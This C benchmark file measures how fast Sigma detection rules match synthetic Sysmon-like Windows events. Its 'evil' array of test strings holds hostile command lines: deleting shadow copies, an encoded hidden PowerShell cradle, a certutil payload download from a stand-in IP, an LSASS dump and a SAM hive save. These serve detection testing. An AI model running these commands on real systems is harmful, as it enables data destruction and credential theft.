/* bench_rules.c - Sigma matching throughput on already-parsed, Sysmon-like
 * events (process creation, network connection, registry set, file create,
 * image load, with realistic field values; a small share is
 * malicious-looking), single
 * thread, with 10, 100, 1000 and all Windows rules of the SigmaHQ corpus
 * loaded (subsets taken with an even stride over the sorted file list so
 * every subset mixes categories). Also compile time and memory (RSS growth)
 * per set.
 *
 * Usage: bench_rules [seconds per set, default 2] [sigma rules dir]
 * BENCH_RULES_SETS=all (or "10,all", ...) runs only those sets (profiling);
 * BENCH_RULES_MIX=v1 uses the first event mix (no image loads) for
 * comparisons with older figures.
 * The corpus is <sigma rules dir>/rules/windows; without the argument the
 * sigma/ of the test corpora (TOCSIN_CORPORA, else ../shared, else
 * tests/corpora; README, "Test corpora"). Prints one figure a line.
 */
#include <dirent.h>
#include <malloc.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>

#include "../core/arena.h"
#include "../core/event.h"
#include "../rules/rules.h"
#include "../rules/rules_int.h" /* rule_scratch_set_memo */

#define NEV 4096

static uint64_t rng = 88172645463325252ULL;
static uint32_t rnd(uint32_t n)
{
    rng ^= rng << 13;
    rng ^= rng >> 7;
    rng ^= rng << 17;
    return (uint32_t)(rng % n);
}

static double now_cpu(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_THREAD_CPUTIME_ID, &ts);
    return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static double now_wall(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static long rss_kib(void)
{
    FILE *f = fopen("/proc/self/statm", "r");
    long pages = 0, res = 0;
    if (f) {
        if (fscanf(f, "%ld %ld", &pages, &res) != 2)
            res = 0;
        fclose(f);
    }
    return res * 4;
}

/* --------------------------------------------------------- rule files */

struct files {
    char **v;
    size_t n, cap;
};

static void walk(const char *dir, struct files *fl)
{
    DIR *d = opendir(dir);
    if (!d)
        return;
    struct dirent *de;
    while ((de = readdir(d)) != NULL) {
        if (de->d_name[0] == '.')
            continue;
        char p[4096];
        snprintf(p, sizeof(p), "%s/%s", dir, de->d_name);
        struct stat st;
        if (stat(p, &st) != 0)
            continue;
        if (S_ISDIR(st.st_mode)) {
            walk(p, fl);
        } else if (strstr(de->d_name, ".yml")) {
            if (fl->n == fl->cap) {
                fl->cap = fl->cap ? fl->cap * 2 : 1024;
                fl->v = realloc(fl->v, fl->cap * sizeof(*fl->v));
                if (!fl->v)
                    exit(1);
            }
            fl->v[fl->n++] = strdup(p);
        }
    }
    closedir(d);
}

static int cmp_str(const void *a, const void *b)
{
    return strcmp(*(char *const *)a, *(char *const *)b);
}

/* ------------------------------------------------------------ events */

static const char *const images[] = {
    "C:\\Windows\\System32\\svchost.exe",       "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
    "C:\\Windows\\explorer.exe",                "C:\\Windows\\System32\\cmd.exe",
    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
    "C:\\Windows\\System32\\conhost.exe",       "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
    "C:\\Windows\\System32\\RuntimeBroker.exe", "C:\\Windows\\System32\\taskhostw.exe",
    "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
    "C:\\Windows\\System32\\SearchProtocolHost.exe", "C:\\Windows\\System32\\backgroundTaskHost.exe",
    "C:\\Users\\alice\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe",
    "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
};

static const char *const cmdlines[] = {
    "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
    "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --field-trial-handle=1784,i,1234 --lang=en-US --renderer-client-id=12",
    "C:\\Windows\\Explorer.EXE",
    "cmd.exe /c dir C:\\Users\\alice\\Documents",
    "powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\scripts\\inventory.ps1",
    "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1",
    "\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" --single-argument https://intranet.agency.local/",
    "C:\\Windows\\System32\\RuntimeBroker.exe -Embedding",
    "taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}",
    "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\" /recycle",
    "C:\\Windows\\system32\\SearchProtocolHost.exe Global\\UsGthrFltPipeMssGthrPipe1_ Global\\UsGthrCtrlFltPipeMssGthrPipe1",
    "C:\\Windows\\system32\\backgroundTaskHost.exe -ServerName:App.AppXmtcan0h2tfbfy7k9kmpgv8c8phpqw8t2.mca",
    "\"C:\\Users\\alice\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe\" --type=gpu-process",
    "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
};

/* a few malicious-looking command lines (about 1 in 50 events) */
static const char *const evil[] = {
    "vssadmin.exe delete shadows /all /quiet",
    "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
    "certutil.exe -urlcache -split -f http://203.0.113.5/a.exe C:\\Users\\Public\\a.exe",
    "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\lsass.dmp full",
    "reg.exe save HKLM\\SAM C:\\temp\\sam.save",
};

static const char *const origs[] = {
    "svchost.exe", "chrome.exe", "EXPLORER.EXE", "Cmd.Exe", "PowerShell.EXE", "CONHOST.EXE",
    "msedge.exe", "RuntimeBroker.exe", "taskhostw.exe", "Outlook.exe", "SearchProtocolHost.exe",
    "backgroundTaskHost.exe", "Teams.exe", "Wmiprvse.exe",
};
/* the usual parent of each image above */
static const char *const parents[] = {
    "C:\\Windows\\System32\\services.exe", "C:\\Windows\\explorer.exe",
    "C:\\Windows\\System32\\userinit.exe", "C:\\Windows\\explorer.exe",
    "C:\\Windows\\explorer.exe", "C:\\Windows\\System32\\cmd.exe",
    "C:\\Windows\\explorer.exe", "C:\\Windows\\System32\\svchost.exe",
    "C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\explorer.exe",
    "C:\\Windows\\System32\\SearchIndexer.exe", "C:\\Windows\\System32\\svchost.exe",
    "C:\\Windows\\explorer.exe", "C:\\Windows\\System32\\svchost.exe",
};

static const char *const users[] = {"AGENCY\\alice", "AGENCY\\bob", "NT AUTHORITY\\SYSTEM",
                                    "NT AUTHORITY\\LOCAL SERVICE", "AGENCY\\svc_backup"};

static const char *const regkeys[] = {
    "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Explorer\\StartupApproved\\Run\\OneDrive",
    "HKU\\S-1-5-21-1-2-3-1001\\Software\\Microsoft\\Windows\\CurrentVersion\\Internet Settings\\ZoneMap\\ProxyBypass",
    "HKLM\\System\\CurrentControlSet\\Services\\bam\\State\\UserSettings\\S-1-5-21-1-2-3-1001\\\\Device\\HarddiskVolume3\\Windows\\System32\\cmd.exe",
    "HKU\\S-1-5-21-1-2-3-1001\\Software\\Microsoft\\Office\\16.0\\Common\\Roaming\\Identities",
    "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Real-Time Protection\\DisableRealtimeMonitoring",
};

static const char *const files_[] = {
    "C:\\Users\\alice\\AppData\\Local\\Temp\\chrome_BITS_1234\\file.tmp",
    "C:\\Windows\\Prefetch\\CMD.EXE-0BD30981.pf",
    "C:\\Users\\alice\\Downloads\\report-2026.pdf",
    "C:\\ProgramData\\Microsoft\\Windows Defender\\Scans\\mpcache-1.bin",
    "C:\\Users\\Public\\a.exe",
};

/* DLLs loaded by the images above (image_load) */
static const char *const dlls[] = {
    "C:\\Windows\\System32\\ntdll.dll", "C:\\Windows\\System32\\kernel32.dll",
    "C:\\Windows\\System32\\KernelBase.dll", "C:\\Windows\\System32\\combase.dll",
    "C:\\Windows\\System32\\advapi32.dll", "C:\\Windows\\System32\\ws2_32.dll",
    "C:\\Windows\\System32\\crypt32.dll", "C:\\Windows\\System32\\wininet.dll",
    "C:\\Program Files\\Google\\Chrome\\Application\\120.0.6099.130\\chrome_elf.dll",
    "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\clr.dll",
    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\Modules\\Microsoft.PowerShell.Utility\\Microsoft.PowerShell.Utility.dll",
    "C:\\Windows\\assembly\\NativeImages_v4.0.30319_64\\System\\4f0a7eefa3cd3e0ba98b5ebddbbc72e6\\System.ni.dll",
    "C:\\Windows\\System32\\amsi.dll", "C:\\Windows\\System32\\wbem\\wmiutils.dll",
};

static bool mix_v1;

#define S(name, val) ts_event_add_str(ev, name, val, strlen(val))

static void make_event(struct ts_event *ev, struct ts_arena *a, uint32_t i)
{
    char buf[256];
    ts_event_init(ev, a);
    ev->logsource.product = "windows";
    ev->logsource.service = "sysmon";
    uint32_t kind = rnd(100);
    uint32_t im = rnd(TS_ARRAY_LEN(images));
    S("Channel", "Microsoft-Windows-Sysmon/Operational");
    S("Provider_Name", "Microsoft-Windows-Sysmon");
    S("Computer", "ws-042.agency.local");
    S("UtcTime", "2026-11-20 10:00:00.000");
    S("ProcessGuid", "5770385F-C22A-43E0-BF4C-06F5698FFBD9");
    ts_event_add_int(ev, "ProcessId", 1000 + (int64_t)i);
    S("Image", images[im]);
    S("User", users[rnd(TS_ARRAY_LEN(users))]);
    if (kind < 50) {
        ev->logsource.category = "process_creation";
        ts_event_add_int(ev, "EventID", 1);
        bool bad = rnd(50) == 0;
        const char *cl = bad ? evil[rnd(TS_ARRAY_LEN(evil))] : cmdlines[im];
        S("CommandLine", cl);
        S("CurrentDirectory", "C:\\Windows\\system32\\");
        S("IntegrityLevel", rnd(3) ? "Medium" : "High");
        S("Hashes", "SHA1=8A2B6C1D0E2F,MD5=9F8E7D6C5B4A,SHA256=2B40C98ED0F7A1D3B091A3E8353132DC33C3E5A3C4C4E23C8AB4E6C9D7F5A1B2,IMPHASH=272245E2988E1E430500B852C4FB5E18");
        S("ParentImage", parents[im]);
        S("ParentCommandLine", parents[im]);
        S("OriginalFileName", origs[im]);
        S("Description", "Windows Command Processor");
        S("Product", "Microsoft\xC2\xAE Windows\xC2\xAE Operating System");
        S("Company", "Microsoft Corporation");
        S("FileVersion", "10.0.19041.746 (WinBuild.160101.0800)");
        S("LogonId", "0x3e7");
        S("ParentUser", users[rnd(TS_ARRAY_LEN(users))]);
    } else if (kind < 70) {
        ev->logsource.category = "network_connection";
        ts_event_add_int(ev, "EventID", 3);
        S("Protocol", "tcp");
        S("Initiated", "true");
        snprintf(buf, sizeof(buf), "10.1.%u.%u", rnd(256), rnd(256));
        char *p = ts_arena_strndup(a, buf, strlen(buf));
        S("SourceIp", p);
        ts_event_add_int(ev, "SourcePort", 49152 + rnd(16000));
        snprintf(buf, sizeof(buf), "%u.%u.%u.%u", 20 + rnd(200), rnd(256), rnd(256), rnd(256));
        p = ts_arena_strndup(a, buf, strlen(buf));
        S("DestinationIp", p);
        ts_event_add_int(ev, "DestinationPort", rnd(2) ? 443 : 80);
        S("DestinationHostname", rnd(2) ? "www.google.com" : "login.microsoftonline.com");
        S("SourceHostname", "ws-042.agency.local");
    } else if (kind < (mix_v1 ? 90u : 80u)) {
        ev->logsource.category = "registry_set";
        ts_event_add_int(ev, "EventID", 13);
        S("EventType", "SetValue");
        S("TargetObject", regkeys[rnd(TS_ARRAY_LEN(regkeys))]);
        S("Details", rnd(2) ? "DWORD (0x00000001)" : "Binary Data");
    } else if (kind < 90 || mix_v1) {
        ev->logsource.category = "file_event";
        ts_event_add_int(ev, "EventID", 11);
        S("TargetFilename", files_[rnd(TS_ARRAY_LEN(files_))]);
        S("CreationUtcTime", "2026-11-20 09:59:59.000");
    } else {
        ev->logsource.category = "image_load";
        ts_event_add_int(ev, "EventID", 7);
        const char *dll = dlls[rnd(TS_ARRAY_LEN(dlls))];
        S("ImageLoaded", dll);
        const char *base = strrchr(dll, '\\') + 1;
        S("OriginalFileName", base);
        S("FileVersion", "10.0.19041.3636 (WinBuild.160101.0800)");
        S("Description", "Windows NT BASE API Client DLL");
        S("Product", "Microsoft\xC2\xAE Windows\xC2\xAE Operating System");
        S("Company", "Microsoft Corporation");
        S("Hashes", "SHA256=5F2D2B5E4C0E4E4E9E1A3E3A8F1C2B3D4E5F60718293A4B5C6D7E8F901234567");
        S("Signed", "true");
        S("Signature", strstr(dll, "Chrome") ? "Google LLC" : "Microsoft Windows");
        S("SignatureStatus", "Valid");
    }
}

static int count_cb(void *ctx, const struct ts_event *ev, size_t idx)
{
    (void)ev;
    (void)idx;
    (*(uint64_t *)ctx)++;
    return 0;
}

static int bench_set(const char *label, const char *const *paths, size_t npaths,
                     struct ts_event *evs, double secs)
{
    malloc_trim(0);
    long rss0 = rss_kib();
    double t0 = now_wall();
    struct rule_set *rs = NULL;
    struct rule_report rep;
    struct ts_err err = {0};
    struct rule_load_opts o = {.paths = paths, .npaths = npaths};
    if (rule_set_load(&rs, &o, &rep, &err) != 0) {
        fprintf(stderr, "bench_rules: load failed: %s\n", err.msg);
        return 1;
    }
    double tload = now_wall() - t0;
    malloc_trim(0);
    long rss1 = rss_kib();
    /* each set twice: every value scanned (comparable with older figures),
     * then through the scan memo (values repeat in real logs; here the 4096
     * events go round, so nearly every value is a repeat: the hit rate is
     * printed beside the figure) */
    for (int memo = 0; memo < 2; memo++) {
        struct rule_scratch *s = NULL;
        if (rule_scratch_create(&s, rs) != 0)
            return 1;
        rule_scratch_set_memo(s, memo == 1);
        uint64_t matches = 0, n = 0;
        double c0 = now_cpu(), el = 0;
        while (el < secs) {
            for (uint32_t i = 0; i < NEV; i++)
                rule_match(rs, s, &evs[i], count_cb, &matches);
            n += NEV;
            el = now_cpu() - c0;
        }
        struct rule_match_stats st;
        rule_scratch_stats(s, &st);
        char how[64];
        if (memo)
            snprintf(how, sizeof(how), "scan memo, %.0f%% hits",
                     100.0 * (double)st.memo_hits /
                         (double)(st.memo_hits + st.memo_misses ? st.memo_hits + st.memo_misses
                                                                 : 1));
        else
            snprintf(how, sizeof(how), "every value scanned");
        printf("rules %s (%zu loaded, %zu files; %s): %.0f events/s, %.2f us/event, %.2f "
               "candidates/event, %.2f matches per 100 events, compile %.3f s, memory %.1f MiB\n",
               label, rule_set_count(rs), npaths, how, (double)n / el, el / (double)n * 1e6,
               (double)st.candidates / (double)st.events, 100.0 * (double)matches / (double)n,
               tload, (double)(rss1 - rss0) / 1024.0);
        rule_scratch_free(s);
    }
    rule_report_free(&rep);
    rule_set_unref(rs);
    return 0;
}

int main(int argc, char **argv)
{
    double secs = argc > 1 ? atof(argv[1]) : 2.0;
    if (secs <= 0)
        secs = 2.0;
    char dir[1024];
    const char *base = argc > 2 ? argv[2] : NULL;
    char corp[512];
    const char *mix = getenv("BENCH_RULES_MIX");
    mix_v1 = mix && strcmp(mix, "v1") == 0;
    struct stat st;
    if (!base || !*base) {
        const char *env = getenv("TOCSIN_CORPORA");
        const char *const cand[] = {env && *env ? env : NULL, "../shared", "tests/corpora"};
        for (size_t i = env && *env ? 0 : 1; i < 3 && !base; i++) {
            snprintf(corp, sizeof(corp), "%s/sigma", cand[i]);
            if (stat(corp, &st) == 0)
                base = corp;
            if (i == 0) /* TOCSIN_CORPORA names the one place to look */
                break;
        }
        if (!base) {
            fprintf(stderr, "bench_rules: no SigmaHQ corpus (set TOCSIN_CORPORA or run "
                            "scripts/fetch-corpora.sh; README, \"Test corpora\")\n");
            return 1;
        }
    }
    snprintf(dir, sizeof(dir), "%s/rules/windows", base);
    struct files fl = {0};
    walk(dir, &fl);
    if (fl.n == 0) {
        fprintf(stderr, "bench_rules: no rules under %s\n", dir);
        return 1;
    }
    qsort(fl.v, fl.n, sizeof(*fl.v), cmp_str);

    struct ts_arena *a = NULL;
    if (ts_arena_create(&a, 1 << 20, (size_t)256 << 20) != 0)
        return 1;
    struct ts_event *evs = calloc(NEV, sizeof(*evs));
    if (!evs)
        return 1;
    for (uint32_t i = 0; i < NEV; i++)
        make_event(&evs[i], a, i);

    size_t sizes[4] = {10, 100, 1000, fl.n};
    const char *labels[4] = {"10", "100", "1000", "all-windows"};
    const char **sub = calloc(fl.n, sizeof(*sub));
    if (!sub)
        return 1;
    printf("bench_rules: %zu Windows rule files, %u synthetic Sysmon-like events (mix %s), one "
           "thread, %.1f s per set\n", fl.n, NEV, mix_v1 ? "v1" : "v2", secs);
    /* BENCH_RULES_SETS="all" (or "10,all", ...) runs only those sets, for profiling */
    const char *only = getenv("BENCH_RULES_SETS");
    for (int k = 0; k < 4; k++) {
        if (only && *only && !strstr(only, k == 3 ? "all" : labels[k]))
            continue;
        size_t want = sizes[k] < fl.n ? sizes[k] : fl.n;
        for (size_t i = 0; i < want; i++)
            sub[i] = fl.v[(size_t)((double)i * (double)fl.n / (double)want)];
        if (bench_set(labels[k], sub, want, evs, secs))
            return 1;
    }
    free(sub);
    free(evs);
    ts_arena_destroy(a);
    for (size_t i = 0; i < fl.n; i++)
        free(fl.v[i]);
    free(fl.v);
    return 0;
}
